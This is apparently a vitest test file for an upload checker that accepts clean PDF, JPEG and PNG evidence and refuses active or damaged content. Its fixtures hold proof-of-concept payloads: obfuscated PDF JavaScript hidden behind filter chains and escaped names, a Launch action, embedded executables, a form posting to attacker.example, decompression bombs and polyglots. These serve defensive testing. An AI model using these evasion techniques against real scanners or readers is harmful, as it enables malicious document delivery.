import { deflateSync } from 'node:zlib'
import { MAX_IMAGE_PIXELS } from '@portico/contracts/limits'
import { expect, test } from 'vitest'
import { checkEvidence } from './check-evidence.ts'
import {
  aJpeg,
  aPdf,
  aPng,
  ascii85,
  asciiHex,
  aZip,
  flateStream,
  lzw,
  type PdfObject,
  pngRows,
  runLength,
  tiffRows,
} from './testing.ts'

const SCRIPT = '<</S /JavaScript /JS (app.alert(1))>>'
const ACTIVE = { refusal: 'file-has-active-content' }
const DAMAGED = { refusal: 'file-damaged' }
const OTHER_TYPE = { refusal: 'file-type-refused' }
const text = (content: string) => Buffer.from(content, 'latin1')
const twice = (dictionary: string) => ({ dictionary, content: text('3c3e>') })

type Encoding = readonly [filter: string, encode: (bytes: Buffer) => Buffer, parameters?: string]

const ENCODINGS: readonly Encoding[] = [
  ['/ASCIIHexDecode', asciiHex],
  ['/AHx', asciiHex],
  ['/ASCII85Decode', ascii85],
  ['/A#385', ascii85],
  ['/LZWDecode', lzw],
  ['/FlateDecode', (bytes) => deflateSync(bytes)],
  ['/Fl', (bytes) => deflateSync(pngRows(bytes)), '<</Predictor 12 /Columns 7>>'],
  ['/Fl', (bytes) => deflateSync(tiffRows(bytes)), '<</Predictor 2 /Columns 9>>'],
  ['/RunLengthDecode', runLength],
]

/** Every filter, and every chain of two. */
const CHAINS: readonly (readonly Encoding[])[] = [
  ...ENCODINGS.map((each) => [each]),
  ...ENCODINGS.flatMap((first) => ENCODINGS.map((second) => [first, second])),
]

/** A stream with these filters. Readers undo the first one first. */
function encoded(content: string, chain: readonly Encoding[], dictionary = '/N 1 /First 4') {
  const bytes = chain.reduceRight<Buffer>((inner, [, encode]) => encode(inner), text(content))
  const filters = chain.map(([filter]) => filter).join(' ')
  const parameters = chain.map(([, , each]) => each ?? 'null').join(' ')
  return {
    dictionary: `${dictionary} /Filter [${filters}] /DecodeParms [${parameters}]`,
    content: bytes,
  }
}

test('uploads: PDF, JPEG and PNG files are accepted by their content', () => {
  const page = flateStream('BT /F1 12 Tf (Statement of accounts) Tj ET')
  const objects = flateStream('4 0 <</Title (Statement)>>', '/Type /ObjStm /N 1 /First 4')
  const outline = '<</Type /Outlines /First 3 0 R /Last 3 0 R>>'
  const photo = { dictionary: '/Subtype /Image /Filter /DCTDecode', content: aJpeg() }
  const pdf = aPdf([
    page,
    objects,
    outline,
    photo,
    '<</A <</S /URI /URI (https://bank.example)>>>>',
  ])
  expect(checkEvidence(pdf)).toEqual({
    type: 'application/pdf',
    contentBytes: pdf.length - 1,
  })
  expect(checkEvidence(aJpeg())).toEqual({ type: 'image/jpeg', contentBytes: aJpeg().length })
  expect(checkEvidence(aPng())).toEqual({ type: 'image/png', contentBytes: aPng().length })
})

test.each<[string, Buffer]>([
  ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['HTML', text('<!doctype html><script>alert(1)</script>')],
  ['a ZIP archive', aZip()],
  ['a program', text('MZ\x90\0\x03\0\0\0')],
  ['HEIC', text('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
  ['GIF', text('GIF89a\x01\0\x01\0\0\0\0;')],
  ['HTML before a PDF', Buffer.concat([text('<script>alert(1)</script>'), aPdf()])],
  ['nothing', Buffer.alloc(0)],
])('uploads: %s is refused', (_, bytes) => {
  expect(checkEvidence(bytes)).toEqual(OTHER_TYPE)
})

test.each<[string, Buffer]>([
  ['a script', aPdf([SCRIPT])],
  ['a script with an escaped name', aPdf(['<</S /J#61va#53cript /JS (app.alert(1))>>'])],
  [
    'a script in an object stream',
    aPdf([flateStream(`4 0 ${SCRIPT}`, '/Type /ObjStm /N 1 /First 4')]),
  ],
  ['a script in a stream that is not declared as one of objects', aPdf([flateStream(SCRIPT)])],
  [
    'a script inside another stream',
    aPdf([{ dictionary: '', content: text(`9 0 obj\n${SCRIPT}\nendobj`) }]),
  ],
  [
    'a comment that hides the dictionary of an object stream',
    aPdf(['<</N 1 /First 4 /Filter /AHx>> % the data follows\nstream\n3c3c3e3e>\nendstream']),
  ],
  [
    'a comment that seems to begin an object',
    aPdf([{ dictionary: '/N 1 /First 4 /Filter /AHx % 9 0 obj <<\n', content: text('3c3e>') }]),
  ],
  [
    'a string that seems to begin an object',
    aPdf([{ dictionary: '/Filter /AHx /Note (9 0 obj << /A (x)) /B 1', content: text('3c3e>') }]),
  ],
  [
    'a string that contains the keyword of streams',
    aPdf([{ dictionary: '/Filter /AHx /Note (stream) /S (>>stream)', content: text('3c3e>') }]),
  ],
  ['two filters of which readers choose one', aPdf([twice('/Filter /AHx /Filter /Fl')])],
  ['a filter by reference', aPdf([twice('/Filter 9 0 R')])],
  ['data in another file', aPdf([twice('/F (evidence.bin)')])],
  ['an encrypted stream', aPdf([twice('/Filter /Crypt')])],
  ['a filter that no standard has', aPdf([twice('/Filter /ZstdDecode')])],
  ...['DCTDecode', 'JPXDecode', 'JBIG2Decode', 'CCITTFaxDecode', 'CCF', 'DCT'].map(
    (filter): [string, Buffer] => [
      `objects in a picture by ${filter}`,
      aPdf([{ dictionary: `/N 1 /First 4 /Filter /${filter}`, content: aJpeg() }]),
    ],
  ),
  [
    'an object stream with a dictionary that is hard to recognize',
    aPdf([flateStream('4 0 <<>>', '/Type /ObjStm /Note (0 obj) /DecodeParms 9 0 R')]),
  ],
  ['an action that starts a program', aPdf(['<</S /Launch /F (calc.exe)>>'])],
  ['an embedded file', aPdf([flateStream('<html>', '/Type /EmbeddedFile')])],
  [
    'a file at an annotation, whose stream does not say that it is one',
    aPdf([
      '<</Type /Annot /Subtype /FileAttachment /FS 5 0 R>>',
      '<</F (invoice.exe)>>',
      flateStream('MZ'),
    ]),
  ],
  ...['/EF <</F 5 0 R>>', '/#45F<</F 5 0 R>>', '/EF 6 0 R', '/EF % files\n<</F 5 0 R>>'].map(
    (entry): [string, Buffer] => [
      `a file by ${JSON.stringify(entry)}`,
      aPdf([`<</F (invoice.exe) ${entry}>>`, flateStream('MZ')]),
    ],
  ),
  ['a form that sends data', aPdf(['<</S /SubmitForm /F (https://attacker.example)>>'])],
  ['an XFA form', aPdf(['<</XFA 9 0 R>>'])],
])('uploads: a PDF with %s is refused', (_, bytes) => {
  expect(checkEvidence(bytes)).toEqual(ACTIVE)
})

test('uploads: a script in an object stream is found behind every filter and chain of two, with and without a type', () => {
  const plain = `4 0 <</Title (${Array.from({ length: 900 }, (_, index) => `${index} `).join('')})>>`
  for (const chain of CHAINS) {
    const name = chain.map(([filter]) => filter).join(' ')
    for (const type of ['', '/Type /ObjStm ']) {
      const stream = (content: string) => encoded(content, chain, `${type}/N 1 /First 4`)
      expect(checkEvidence(aPdf([stream(`4 0 ${SCRIPT}`)])), name).toEqual(ACTIVE)
      expect(checkEvidence(aPdf([stream(`${plain} ${SCRIPT}`)])), name).toEqual(ACTIVE)
      expect(checkEvidence(aPdf([stream(plain)])), name).toHaveProperty('type')
    }
  }
})

test('uploads: an attachment behind three filters is found', () => {
  const [hex, , base85, , , flate] = ENCODINGS
  const chain = [hex, base85, flate].filter((each) => each !== undefined)
  const file = encoded('4 0 <</F (invoice.exe) /EF <</F 5 0 R>>>>', chain)
  expect(checkEvidence(aPdf([file]))).toEqual(ACTIVE)
})

/** An object stream whose script only a reader finds that sees these entries. */
const hiddenObjects = (entries: string) => ({
  dictionary: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${entries}`,
  content: deflateSync(text(`4 0 ${SCRIPT}`)),
})

test.each([
  String.raw`/X (1 0 obj <</A\( )`,
  String.raw`/X (9 0 obj<</A\( ) /B 1`,
  String.raw`/X (endobj 1 0 obj <</A\( )`,
  '/X (1 %\n 0 obj <</A\\( )',
  '/X/1 0 obj <</A 1',
  '/X % 1 0 obj <</A 1\n',
  'endobj 1 0 obj <</A 1',
  '/X } /Y (1 0 obj <</A 1 /B (x))',
  '5 <</A 1',
])('uploads: an object within another object hides no dictionary: %s', (entries) => {
  expect(checkEvidence(aPdf([hiddenObjects(entries)]))).toEqual(ACTIVE)
})

test.each<[string, string]>([
  ['/DecodeParms 5 0 R', '<</Predictor 12 /Columns 7>>'],
  ['/DecodeParms [5 0 R]', '<</Predictor 12 /Columns 7>>'],
  ['/DP 5 0 R', '<</Predictor 12 /Columns 7>>'],
  ['/DP [5 0 R]', '<</Predictor 12 /Columns 7>>'],
  ['/DecodeParms [null 5 0 R]', '<</Predictor 12 /Columns 7>>'],
  ['/DecodeParms true', 'null'],
  ['/FFilter 5 0 R', '/FlateDecode'],
  ['/FDecodeParms 5 0 R', '<</Predictor 12 /Columns 7>>'],
])('uploads: nothing that decides how a stream is read is a reference: %s', (entries, value) => {
  // Without the predictor, the name is not in the data.
  const content = deflateSync(pngRows(text(`4 0 ${SCRIPT}`)))
  const objects = { dictionary: `/First 4 /Filter /FlateDecode ${entries}`, content }
  expect(checkEvidence(aPdf([objects, value]))).toEqual(ACTIVE)
})

test('uploads: parameters that readers may not apply to a list of filters are refused for objects', () => {
  const entries = '/Filter [/FlateDecode] /DecodeParms <</Predictor 12 /Columns 7>>'
  const content = deflateSync(pngRows(text('4 0 <<>>')))
  expect(checkEvidence(aPdf([{ dictionary: `/First 4 ${entries}`, content }]))).toEqual(ACTIVE)
  expect(checkEvidence(aPdf([{ dictionary: entries, content }]))).toHaveProperty('type')
})

test('uploads: a name that ends with the data of its stream is found', () => {
  const objects = '4 0 <</JS (app.alert(1)) /S /JavaScript'
  const plain = { dictionary: '/N 1 /First 4', content: text(`${objects}endstream >>`) }
  expect(checkEvidence(aPdf([plain]))).toEqual(ACTIVE)
  // A reader that trusts a shorter length sees no more than the name.
  const longer = { ...plain, content: text(`${objects}Names >>`) }
  expect(checkEvidence(aPdf([longer]))).toEqual(ACTIVE)
  const packed = flateStream(`${objects}endstream >>`, '/N 1 /First 4')
  expect(checkEvidence(aPdf([packed]))).toEqual(ACTIVE)
})

test.each<[string, PdfObject]>([
  ['the script of a 3D model', '<</Type /3D /Subtype /U3D /OnInstantiate 5 0 R>>'],
  ['a 3D model', '<</Type /Annot /Subtype /3D /3DD 5 0 R>>'],
  ['an escaped 3D model', '<</Type /Annot /Subtype /3D /#33DD <</3DD 5 0 R>>>>'],
  ['an article in another file', '<</S /Thread /F (other.pdf) /D 0>>'],
  ['a sound', '<</S /Sound /Sound 5 0 R>>'],
  ['a movie', '<</Type /Annot /Subtype /Movie /Movie <</F (movie.avi)>>>>'],
  ['commands to rich media', '<</S /RichMediaExecute /TA 5 0 R>>'],
  ['addresses to fetch again', '<</SpiderInfo 5 0 R>>'],
  ['a page of another file', { dictionary: '/Subtype /Form /Ref 5 0 R', content: text('') }],
  ['a picture in another file', { dictionary: '/Subtype /Image /OPI 5 0 R', content: text('') }],
  ['a program for printers', { dictionary: '/Subtype /PS', content: text('showpage') }],
  ['a program in a form', { dictionary: '/Subtype /Form /Subtype2 /P#53', content: text('') }],
])('uploads: %s starts, embeds or names something outside of the document', (_, object) => {
  expect(checkEvidence(aPdf([object]))).toEqual(ACTIVE)
})

test('uploads: objects as usual producers write them are accepted', () => {
  const page = flateStream('BT (Statement) Tj ET')
  const pdf = aPdf([
    { ...page, dictionary: `${page.dictionary} /DecodeParms null /Note (a \\) (b)) /ID <00 ff>` },
    '% A comment\n<</Title (Page 5 of 7, total 3 objects) /Key 1 /Key 2>>',
    '',
    '42',
    '[0 -1.5 .5 --3 0.00-35 [true null] <</A (\\\n)>> /Name (5 obj)]',
    '<</S /Hide>>',
    '<</S /Named /N /NextPage>>',
    '<</S /GoTo /D [3 0 R /Fit]>>',
    `<</Contents <${'30'.repeat(100_000)}> /Type /Sig>>`,
  ])
  expect(checkEvidence(pdf)).toHaveProperty('type', 'application/pdf')
})

test('uploads: pages and pictures with usual chains of filters are accepted', () => {
  const page = 'BT /F1 12 Tf (Statement of accounts) Tj ET'
  const encodings = ENCODINGS.filter(([filter]) => filter === '/ASCII85Decode')
  const photo = { dictionary: '/Filter [/ASCII85Decode /DCTDecode]', content: ascii85(aJpeg()) }
  const fax = {
    dictionary: '/Subtype /Image /Filter [/CCITTFaxDecode] /DecodeParms [<</K -1>>]',
    content: text('\x26\xa1'),
  }
  const xref = encoded('4 0 <<>>', ENCODINGS.slice(6, 7), '/Type /XRef /W [1 2 1]')
  const words = '<</Title (The stream\nof 100% of our clients)>>'
  const drawing = { dictionary: '', content: text('% the stream\nstream\n0 0 m\n') }
  const pdf = aPdf([encoded(page, encodings, ''), photo, fax, xref, words, drawing])
  expect(checkEvidence(pdf)).toHaveProperty('type', 'application/pdf')
})

test.each(['/Encrypt 9 0 R', '/#45ncrypt 9 0 R', '/Encrypt <</Filter /Standard /V 5>>'])(
  'uploads: an encrypted PDF is refused with advice: %s',
  (entry) => {
    const encrypted = { refusal: 'file-has-password' }
    expect(checkEvidence(aPdf([], { trailer: entry }))).toEqual(encrypted)
    // A cross-reference stream has the entries of the trailer.
    const xref = flateStream('\0\0\0\0', `/Type /XRef /W [1 2 1] ${entry}`)
    expect(checkEvidence(aPdf([xref]))).toEqual(encrypted)
  },
)

test('uploads: a compressed stream with a wrong checksum is read as PDF readers do', () => {
  const { dictionary, content } = flateStream(`4 0 ${SCRIPT}`, '/Type /ObjStm /N 1 /First 4')
  const falsified = Buffer.from(content)
  falsified.fill(0, falsified.length - 4)
  expect(checkEvidence(aPdf([{ dictionary, content: falsified }]))).toEqual(ACTIVE)
  // It is unknown what readers would still find before the damage.
  const broken = Buffer.concat([content.subarray(0, -8), Buffer.from([0xff, 0xff, 0xff, 0xff])])
  expect(checkEvidence(aPdf([{ dictionary, content: broken }]))).not.toHaveProperty('type')
})

test('uploads: decompression bombs are refused', () => {
  const bomb = flateStream(Buffer.alloc(65 * 1024 * 1024))
  expect(bomb.content.length).toBeLessThan(100_000)
  expect(checkEvidence(aPdf([bomb]))).toEqual(DAMAGED)
  const large = flateStream(Buffer.alloc(60 * 1024 * 1024))
  expect(checkEvidence(aPdf([large]))).toHaveProperty('type')
  expect(checkEvidence(aPdf(Array.from({ length: 7 }, () => large)))).toEqual(DAMAGED)
  const keywords = { dictionary: '', content: text('stream\n'.repeat(100_000)) }
  expect(checkEvidence(aPdf([keywords]))).toEqual(DAMAGED)
})

test('uploads: truncated and damaged files are refused', () => {
  const flipped = aPng()
  flipped[20] = 0xff
  for (const bytes of [
    aPdf().subarray(0, -10),
    aPng().subarray(0, -5),
    aPng().subarray(0, 8),
    flipped,
    aJpeg().subarray(0, -2),
    aJpeg().subarray(0, 30),
    text('\xff\xd8\xff\xd9'),
  ]) {
    expect(checkEvidence(bytes)).toEqual(DAMAGED)
  }
})

test('uploads: a picture with more pixels than a device can show is refused', () => {
  const width = 20_000
  const height = MAX_IMAGE_PIXELS / width
  const tooLarge = { refusal: 'image-too-large' }
  expect(checkEvidence(aPng({ width, height }))).toHaveProperty('type', 'image/png')
  expect(checkEvidence(aPng({ width, height: height + 1 }))).toEqual(tooLarge)
  expect(checkEvidence(aPng({ width: 4_294_967_295, height: 1 }))).toEqual(tooLarge)
  expect(checkEvidence(aJpeg({ width: 65_535, height: 65_535 }))).toEqual(tooLarge)
})

test('uploads: data after the end of a document or picture is not served', () => {
  for (const file of [aPng(), aJpeg()]) {
    const checked = checkEvidence(Buffer.concat([file, aZip()]))
    expect(checked).toHaveProperty('contentBytes', file.length)
  }
  const pdf = aPdf()
  const page = text('<script>alert(1)</script>')
  expect(checkEvidence(Buffer.concat([pdf, page]))).toHaveProperty('contentBytes', pdf.length - 1)
})

test('uploads: a file that is also an archive up to its end is refused', () => {
  // The archive's comment is the rest of the document.
  const rest = 'startxref\n0\n%%EOF'
  const both = Buffer.concat([aPdf(), aZip({ comment: rest })])
  expect(checkEvidence(both)).toEqual(OTHER_TYPE)
})

test('uploads: a picture with HTML in a comment stays a picture', () => {
  expect(checkEvidence(aPng({ text: '<script>alert(1)</script>' }))).toHaveProperty(
    'type',
    'image/png',
  )
})

test('uploads: a randomly damaged file is accepted or refused, never an error', () => {
  const samples = [aPdf([flateStream('4 0 <<>>', '/Type /ObjStm')]), aPng(), aJpeg()]
  for (let round = 0; round < 300; round += 1) {
    const bytes = Buffer.from(samples[round % samples.length] ?? [])
    for (let each = 0; each < 4; each += 1) {
      bytes[(round * 7919 + each * 104_729) % bytes.length] = (round * 31 + each * 17) & 255
    }
    const checked = checkEvidence(bytes)
    expect('refusal' in checked || checked.contentBytes <= bytes.length).toBe(true)
  }
})
